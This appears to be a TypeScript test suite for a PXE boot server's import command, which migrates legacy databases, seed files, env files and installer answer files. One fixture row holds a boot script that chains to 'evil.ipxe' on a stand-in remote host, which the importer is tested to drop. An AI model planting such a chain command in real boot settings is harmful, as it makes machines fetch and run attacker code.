// pxe-pilot import as a user coming from an earlier pxe-pilot runs it: the aayusharyan pxe.db
// (built here from that project's documented 3.x schema) and seed.yml into the store, its .env
// and compose files into a profile, and a WisherOps answers folder checked, copied and then
// served for the WisherOps installer's own request body, byte for byte as before.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { Store } from '../../src/store/store.ts';
import { loadProfile } from '../../src/config/load.ts';
import { startLoopbackDaemon } from '../helpers/loopback-daemon.ts';

const run = promisify(execFile);
let dir: string;
before(() => {
  dir = mkdtempSync(join(tmpdir(), 'pxp-import-'));
});
after(() => rmSync(dir, { recursive: true, force: true }));

async function pxePilot(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    // Only what the test names: the runner's own environment must not leak PXE_* variables in.
    const r = await run(process.execPath, ['--import', 'tsx', 'src/cli.ts', ...args], { encoding: 'utf8', env: { PATH: process.env.PATH, ...env } });
    return { code: 0, ...r };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

/** A pxe.db as the aayusharyan 3.x server left it: its nodes table and its app_config. */
function legacyDatabase(file: string): void {
  const db = new Database(file);
  db.exec(`CREATE TABLE nodes (id INTEGER NOT NULL PRIMARY KEY, mac VARCHAR(17) NOT NULL, reinstall BOOLEAN NOT NULL,
             local_boot_script VARCHAR(256), last_seen DATETIME, created_at DATETIME NOT NULL);
           CREATE UNIQUE INDEX ix_nodes_mac ON nodes (mac);
           CREATE TABLE app_config (key VARCHAR(64) NOT NULL PRIMARY KEY, value VARCHAR(256) NOT NULL);
           INSERT INTO app_config VALUES ('is_seed_executed', '1');`);
  const insert = db.prepare('INSERT INTO nodes (mac, reinstall, local_boot_script, last_seen, created_at) VALUES (?, ?, ?, ?, ?)');
  insert.run('3c:52:82:57:ac:ed', 1, null, '2026-05-21 23:00:00.250000', '2025-11-02 08:15:00.000000');
  insert.run('40:b0:34:43:b5:e7', 0, 'sanboot --no-describe --drive 0x80', '2026-05-20 10:00:00.000000', '2025-11-03 09:00:00.000000');
  insert.run('de:ad:be:ef:00:11', 1, 'sanboot --no-describe --drive 1', null, '2026-01-10 00:00:00.000000');
  insert.run('aa:bb:cc:dd:ee:ff', 0, 'chain http://203.0.113.9/evil.ipxe', '2026-02-01 00:00:00.000000', '2026-01-01 00:00:00.000000');
  db.close();
}

function profileFile(name: string): { ini: string; stateDir: string } {
  const stateDir = join(dir, name, 'state');
  mkdirSync(join(dir, name), { recursive: true });
  const ini = join(dir, name, 'pxe-pilot.ini');
  // An HTTP port nothing listens on: the import's "is the daemon running" probe finds none.
  writeFileSync(ini, `[server]\naddress = 127.0.0.1\nstate_dir = ${stateDir}\n[http]\nbind = 127.0.0.1\nport = 9\n`);
  return { ini, stateDir };
}

test('--from-db brings the pxe.db machines in with their times and scripts, lists the reinstall flags without arming them, and is safe to repeat', async () => {
  const db = join(dir, 'pxe.db');
  legacyDatabase(db);
  const { ini, stateDir } = profileFile('from-db');

  const first = await pxePilot(['import', '--config', ini, '--from-db', db]);
  assert.equal(first.code, 0, first.stderr);
  assert.match(first.stdout, /4 machine\(s\) from .*pxe\.db .*: 4 added, 0 updated, 0 already there/);
  assert.match(first.stdout, /Reinstall flag set on 2, NOT armed[^\n]*\n {2}3c:52:82:57:ac:ed\n {2}de:ad:be:ef:00:11\n/);
  assert.match(first.stdout, /aa:bb:cc:dd:ee:ff\): local_boot_script "chain http:\/\/203\.0\.113\.9\/evil\.ipxe" left out/);
  assert.match(first.stdout, /app_config \(is_seed_executed\) is not carried/);

  const again = await pxePilot(['import', '--config', ini, '--from-db', db]);
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /0 added, 0 updated, 4 already there/);

  let store = Store.open(stateDir);
  try {
    assert.equal(store.countNodes(), 4);
    const flagged = store.getNode('3c:52:82:57:ac:ed')!;
    assert.equal(flagged.state, 'seen', 'an imported reinstall flag is not armed');
    assert.equal(flagged.firstSeen, Date.UTC(2025, 10, 2, 8, 15));
    assert.equal(flagged.lastSeen, Date.UTC(2026, 4, 21, 23, 0, 0, 250));
    assert.equal(store.getNode('40:b0:34:43:b5:e7')!.localBoot, 'sanboot --no-describe --drive 0x80');
    const neverBooted = store.getNode('de:ad:be:ef:00:11')!;
    assert.equal(neverBooted.lastSeen, neverBooted.firstSeen, 'no last_seen: its first sight stands for it');
    assert.equal(neverBooted.localBoot, 'sanboot --no-describe --drive 1');
    assert.equal(store.getNode('aa:bb:cc:dd:ee:ff')!.localBoot, null);
    assert.equal(store.countNodesInState('install-pending'), 0);
  } finally {
    store.close();
  }

  // No terminal to ask on and no --yes: refused before anything is armed.
  const unconfirmed = await pxePilot(['import', '--config', ini, '--from-db', db, '--arm-reinstall']);
  assert.equal(unconfirmed.code, 2);
  assert.match(unconfirmed.stderr, /would make 2 machine\(s\) reinstall .* confirm with --yes/);
  store = Store.open(stateDir);
  assert.equal(store.countNodesInState('install-pending'), 0);
  store.close();

  const armed = await pxePilot(['import', '--config', ini, '--from-db', db, '--arm-reinstall', '--yes']);
  assert.equal(armed.code, 0, armed.stderr);
  assert.match(armed.stdout, /Reinstall flag set on 2: 2 armed now, 0 already armed/);
  const rearmed = await pxePilot(['import', '--config', ini, '--from-db', db, '--arm-reinstall', '--yes']);
  assert.match(rearmed.stdout, /0 armed now, 2 already armed/);
  store = Store.open(stateDir);
  try {
    assert.deepEqual(
      store
        .listNodesInState('install-pending')
        .map((n) => n.mac)
        .sort(),
      ['3c:52:82:57:ac:ed', 'de:ad:be:ef:00:11'],
    );
    assert.equal(store.installHistory('3c:52:82:57:ac:ed').length, 1, 'armed once, not once per run');
    assert.equal(store.getNode('40:b0:34:43:b5:e7')!.state, 'seen');
  } finally {
    store.close();
  }
});

test('--from-seed brings in the seed file machines; a broken seed or database is refused with exit 2 and nothing written', async () => {
  const seed = join(dir, 'seed.yml');
  writeFileSync(
    seed,
    [
      '# as that project documented it',
      'nodes:',
      '  - mac: "aa:bb:cc:dd:ee:01"',
      '    reinstall: false',
      '    local_boot_script: "sanboot --no-describe --drive 0x80"',
      '  - mac: "11-22-33-44-55-66"',
      '    reinstall: yes',
      '  - mac: "not-a-mac"',
      '',
    ].join('\n'),
  );
  const { ini, stateDir } = profileFile('from-seed');
  const r = await pxePilot(['import', '--config', ini, '--from-seed', seed]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /2 machine\(s\) from .*: 2 added/);
  assert.match(r.stdout, /NOT armed[^\n]*\n {2}11:22:33:44:55:66\n/);
  assert.match(r.stdout, /nodes\[2\]: "not-a-mac" is not a MAC address; left out/);
  assert.match((await pxePilot(['import', '--config', ini, '--from-seed', seed])).stdout, /0 added, 0 updated, 2 already there/);
  const store = Store.open(stateDir);
  assert.equal(store.getNode('aa:bb:cc:dd:ee:01')!.localBoot, 'sanboot --no-describe --drive 0x80');
  store.close();

  const broken = profileFile('broken');
  writeFileSync(join(dir, 'broken.yml'), 'nodes:\n  - mac: "aa:bb:cc:dd:ee:02\n');
  const bad = await pxePilot(['import', '--config', broken.ini, '--from-seed', join(dir, 'broken.yml')]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /broken\.yml: line 2: unclosed " quote/);
  writeFileSync(join(dir, 'not.db'), 'this is not a database, it is text\n'.repeat(200));
  const notDb = await pxePilot(['import', '--config', broken.ini, '--from-db', join(dir, 'not.db')]);
  assert.equal(notDb.code, 2);
  assert.match(notDb.stderr, /not\.db: not a SQLite database/);
  assert.equal(existsSync(broken.stateDir), false, 'nothing was written');
});

test('--from-env turns the aayusharyan .env into a profile that loads, and writes it only where no file is', async () => {
  const env = join(dir, 'aayusharyan.env');
  writeFileSync(
    env,
    [
      '# its .env.example, filled in',
      'PXE_BASE_URL=http://10.0.0.5:8000',
      'ADMIN_API_KEY="a-long-admin-key-0123456789"',
      'PXE_TFTP_ENABLED=0',
      'TIMEZONE=Asia/Tokyo',
      '',
    ].join('\n'),
  );
  const printed = await pxePilot(['import', '--from-env', env]);
  assert.equal(printed.code, 0, printed.stderr);
  assert.match(printed.stdout, /\[http\]\n(;.*\n)?legacy_api = aayusharyan\n/);
  assert.match(printed.stdout, /TIMEZONE=Asia\/Tokyo: every time is UTC here/);

  const out = join(dir, 'from-env.ini');
  const written = await pxePilot(['import', '--from-env', env, '--write', out]);
  assert.equal(written.code, 0, written.stderr);
  assert.equal(statSync(out).mode & 0o777, 0o600, 'it holds the admin token');
  const profile = loadProfile(out);
  assert.equal(profile.server.address, '10.0.0.5');
  assert.equal(profile.http.port, 8000);
  assert.equal(profile.http.adminToken, 'a-long-admin-key-0123456789');
  assert.equal(profile.http.legacyApi, 'aayusharyan');
  assert.equal(profile.tftp.enabled, false);
  assert.equal(profile.boot.unknown, 'local');

  writeFileSync(out, 'kept\n');
  const refused = await pxePilot(['import', '--from-env', env, '--write', out]);
  assert.equal(refused.code, 2);
  assert.match(refused.stderr, /exists; give --force/);
  assert.equal(readFileSync(out, 'utf8'), 'kept\n');
  assert.equal((await pxePilot(['import', '--from-env', env, '--write', out, '--force'])).code, 0);
  assert.equal(loadProfile(out).http.port, 8000);
});

test('--from-env reads image URLs with ${mac} from a compose file and the process environment of the WisherOps server', async () => {
  const compose = join(dir, 'docker-compose.yml');
  writeFileSync(
    compose,
    [
      'services:',
      '  pxe-pilot:',
      '    image: ghcr.io/aayusharyan/pxe-pilot:latest',
      '    environment:',
      '      PXE_UBUNTU_KERNEL_URL: http://image-host/ubuntu/vmlinuz',
      '      PXE_UBUNTU_INITRD_URL: http://image-host/ubuntu/initrd',
      '      PXE_AUTOINSTALL_URL: http://image-host/autoinstall/$${mac}',
      '      PXE_BASE_URL: http://pxe-pilot:8000',
      '',
    ].join('\n'),
  );
  const r = await pxePilot(['import', '--from-env', compose]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /\[image ubuntu\/from-pxe-env\]\n(;.*\n)?kernel = http:\/\/image-host\/ubuntu\/vmlinuz\n/);
  assert.match(r.stdout, /ds=nocloud-net;s=http:\/\/image-host\/autoinstall\/\$\{mac\}\//);
  assert.match(r.stdout, /default_install = ubuntu\/from-pxe-env/);
  assert.match(r.stdout, /"pxe-pilot" is not an IPv4 address/);

  const w = await pxePilot(['import', '--from-env'], {
    PXE_PILOT_PORT: '8080',
    PXE_PILOT_LOG_LEVEL: 'warning',
    PXE_PILOT_BOOT_ENABLED: 'true',
    PXE_PILOT_TRUSTED_PROXIES: '172.16.0.0/12',
  });
  assert.equal(w.code, 0, w.stderr);
  assert.match(w.stdout, /log_level = warn\n/);
  assert.match(w.stdout, /also_listen = :8080\n/);
  assert.match(w.stdout, /\[tftp\]\n(;.*\n)?enabled = true\n/);
  assert.match(w.stdout, /PXE_PILOT_TRUSTED_PROXIES=172\.16\.0\.0\/12: pxe-pilot is not meant to sit behind a reverse proxy/);

  const none = await pxePilot(['import', '--from-env']);
  assert.equal(none.code, 2);
  assert.match(none.stderr, /no variable of either earlier pxe-pilot/);
});

test('--from-answers lists the literal {{ to escape, copies the WisherOps folder, and the copy answers its installer byte for byte', async () => {
  const old = join(dir, 'wisherops', 'answers');
  mkdirSync(join(old, 'hosts'), { recursive: true });
  const host = '[global]\nkeyboard = "en-us"\nroot_password = "changeme"\n\n[first-boot]\n# a Jinja line kept as text: {{ ds.meta_data.instance_id }}\n';
  const fallback = '[global]\nfqdn = "pxe-node.local"\n';
  writeFileSync(join(old, 'hosts', 'aa-bb-cc-dd-ee-ff.toml'), host);
  writeFileSync(join(old, 'default.toml'), fallback);
  writeFileSync(join(old, 'hosts', 'notes.txt'), 'not an answer');
  writeFileSync(join(old, 'hosts', 'rack-1.toml'), '[global]\n');

  const target = join(dir, 'answers-here');
  const r = await pxePilot(['import', '--from-answers', join(dir, 'wisherops'), '--write', target]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /2 answer file\(s\) in .*; 1 need\(s\) escaping/);
  assert.match(r.stdout, /hosts\/aa-bb-cc-dd-ee-ff\.toml: \{\{ at 6:30\n/);
  assert.match(r.stdout, /default\.toml: ok as a template/);
  assert.match(r.stdout, /hosts\/notes\.txt: not a \.toml file/);
  assert.match(r.stdout, /hosts\/rack-1\.toml: the name is not a MAC address/);
  assert.match(readFileSync(join(target, 'hosts', 'aa-bb-cc-dd-ee-ff.toml'), 'utf8'), /text: \\\{\{ ds\.meta_data/);
  assert.match((await pxePilot(['import', '--from-answers', old, '--write', target])).stdout, /Wrote 0 file\(s\) .*\(2 already the same\)/);

  writeFileSync(join(target, 'default.toml'), 'edited here\n');
  const clash = await pxePilot(['import', '--from-answers', old, '--write', target]);
  assert.equal(clash.code, 2);
  assert.match(clash.stderr, /default\.toml/);
  assert.equal(readFileSync(join(target, 'default.toml'), 'utf8'), 'edited here\n');
  assert.equal((await pxePilot(['import', '--from-answers', old, '--write', target, '--force'])).code, 0);

  // The request body the Proxmox installer posts to the WisherOps server.
  const daemon = await startLoopbackDaemon({ hosts: `[answers]\ndir = ${target}\n` });
  try {
    for (const [mac, expected] of [
      ['aa:bb:cc:dd:ee:ff', host],
      ['52:54:00:00:00:01', fallback],
    ] as const) {
      const res = await fetch(`${daemon.base}/answer`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ network_interfaces: [{ link: 'eth0', mac }], product: { product: 'pve' } }),
      });
      assert.equal(res.status, 200, await res.clone().text());
      assert.equal(await res.text(), expected);
    }
  } finally {
    await daemon.stop();
  }
});

test('an import into the SQLite store of a running daemon is refused (exit 1), and nothing is written', async () => {
  const daemon = await startLoopbackDaemon();
  try {
    const seed = join(dir, 'running.yml');
    writeFileSync(seed, 'nodes:\n  - mac: "aa:bb:cc:dd:ee:77"\n');
    const r = await pxePilot(['import', '--config', daemon.configFile, '--from-seed', seed]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /a pxe-pilot daemon answers on 127\.0\.0\.1:\d+: stop it first/);
    const nodes = (await (await fetch(`${daemon.base}/nodes`, { headers: { authorization: `Bearer ${daemon.token}` } })).json()) as { total: number };
    assert.equal(nodes.total, 0);
  } finally {
    await daemon.stop();
  }
});

test('a second source, or --arm-reinstall without machines to import, is a usage error (exit 2)', async () => {
  const two = await pxePilot(['import', '--from-env', '--from-seed', 'x.yml']);
  assert.equal(two.code, 2);
  assert.match(two.stderr, /name one source/);
  const arm = await pxePilot(['import', '--from-env', '--arm-reinstall']);
  assert.equal(arm.code, 2);
  assert.match(arm.stderr, /--arm-reinstall goes with --from-db or --from-seed/);
});
